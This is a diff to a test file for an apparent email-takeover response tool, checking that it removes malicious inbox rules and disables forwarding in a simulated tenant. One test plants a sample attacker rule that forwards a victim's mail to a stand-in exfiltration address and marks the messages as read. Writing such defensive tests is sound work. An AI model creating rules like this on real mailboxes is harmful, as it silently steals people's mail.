@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 
+from tests._policy import UNATTENDED_RESPONSE, save_policy
 from tests.mailbox._onprem import hybrid_tenant
 
 pytestmark = pytest.mark.usefixtures("prefect_harness")
@@ -40,6 +41,7 @@ def _hybrid(tenant_factory: Any, embedded: Any, seed: int, password: str | None 
     block, state, onprem = hybrid_tenant(tenant_factory, embedded, seed=seed, users=16, messages_per_mailbox=4,
                                          phishing_rate=0.2, password=password)
     block.save(block.block_name, overwrite=True)
+    save_policy(block, **UNATTENDED_RESPONSE)  # the operator lets these tests act without an approval
     reconcile_licenses(tenant=block.primary_domain)
     return block, state, set(onprem)
 
@@ -225,7 +227,7 @@ def test_takeover_removes_an_onprem_rule_through_ews(tenant_factory: Any, embedd
     box = state.mailboxes[victim]
     rule = box.add_rule({"displayName": ".", "actions": {"forwardTo": [
         {"emailAddress": {"address": "collect@exfil.example"}}], "markAsRead": True}})
-    out = mod.takeover_response(tenant=block.primary_domain, user=victim, mode="auto",
+    out = mod.takeover_response(tenant=block.primary_domain, user=victim,
                                 evidence={"rule_key": f"graph:{rule['id']}", "user": victim},
                                 steps=["remove_rules", "forwarding_off", "review_sent_items"])
     res = {s["step"]: s for s in out["steps"]}
